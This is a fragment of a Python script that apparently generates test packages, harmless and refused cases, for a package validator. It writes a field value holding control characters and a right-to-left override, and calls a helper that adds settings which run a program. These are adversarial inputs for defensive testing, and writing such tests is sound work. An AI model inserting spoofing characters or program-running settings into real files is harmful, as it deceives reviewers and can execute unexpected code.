    kept = package.file("projects").read_text("utf-8")
    package.set("projects", "remarks", "\x01\ufffe\u202e before")
    with_a_signed_commit(package)
    package.file("projects").write_text(kept, "utf-8")
    texts = {id_of(name): text for name, text in TEXTS.items()}
    for table in ("projects", "progress_reports"):
        header, *rows = package.table(table)
        for row in rows:
            if row[0] in texts:
                for column in {"title", "remarks", "contractor", "details", "obstacles"} & set(header):
                    row[header.index(column)] = texts[row[0]]
        package.write(table, [header, *rows])
    for case in HARMLESS:
        case.change(package)
    with_a_signed_commit(package)
    with_settings_that_run_a_program(package)
    return package


def make_refused(folder: Path, case: Refused) -> Path:
    """Write the package of a case below `folder`; returns where it is."""
    package = Package(folder / case.name / "package")
    case.change(package)
    return package.root


if __name__ == "__main__":
    to = Path(sys.argv[1])
    make_harmless(to / "harmless" / "package")
    for one in REFUSED:
        print(make_refused(to, one))
